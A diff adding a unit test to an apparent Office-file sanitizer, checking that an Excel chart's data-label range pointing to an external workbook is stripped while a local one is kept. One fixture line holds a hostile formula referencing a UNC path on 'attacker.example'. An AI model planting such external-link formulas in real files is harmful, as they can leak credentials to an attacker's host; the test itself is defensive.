@@ -763,3 +763,32 @@ def test_a_powerpoint_action_is_judged_by_its_whole_verb(tmp_path: Path, action:
     with zipfile.ZipFile(output) as package:
         assert ("hlinkClick" in package.read("ppt/slides/slide1.xml").decode()) == kept
     assert inspect_file(output, tmp_path).clean
+
+
+def test_a_charts_data_label_range_is_a_formula_too(tmp_path: Path) -> None:
+    """Excel 2013 keeps a data-label range as c15:f in the chart's extension list; the rebuild did
+    not read it, so one naming another workbook stayed and the inspector blocked the workbook."""
+    path = tmp_path / "labels.xlsx"
+    book = xlsxwriter.Workbook(str(path))
+    sheet = book.add_worksheet("予算")
+    sheet.write_column("A1", [1, 2, 3])
+    chart = book.add_chart({"type": "column"})
+    chart.add_series({"values": "=予算!$A$1:$A$3"})
+    sheet.insert_chart("C1", chart)
+    book.close()
+    with zipfile.ZipFile(path) as package:
+        text = package.read("xl/charts/chart1.xml").decode()
+    c15 = 'xmlns:c15="http://schemas.microsoft.com/office/drawing/2012/chart"'
+    ranges = {"outside": "'\\\\attacker.example\\s\\[a.xlsx]S'!$A$1:$A$3", "local": "予算!$B$1:$B$3"}
+    for which, reference in ranges.items():
+        hostile = text.replace("</c:ser>", f'<c:extLst><c:ext uri="{{02D57815-91ED-43cb-92C2-25804820EDAC}}" {c15}>'
+                                           f"<c15:datalabelsRange><c15:f>{reference}</c15:f></c15:datalabelsRange>"
+                                           "</c:ext></c:extLst></c:ser>", 1)
+        source = edit_package(path, tmp_path / f"{which}.xlsx", {"xl/charts/chart1.xml": hostile.encode()})
+        outcome, codes, output = sanitize(source, tmp_path)
+        assert outcome == ("sanitized" if which == "outside" else "passed") and output is not None
+        assert ("excel_external_formula_removed" in codes) == (which == "outside")
+        with zipfile.ZipFile(output) as package:
+            written = package.read("xl/charts/chart1.xml").decode()
+        assert ("c15:f" in written) == (which == "local") and "attacker" not in written
+        assert inspect_file(output, tmp_path).clean, which
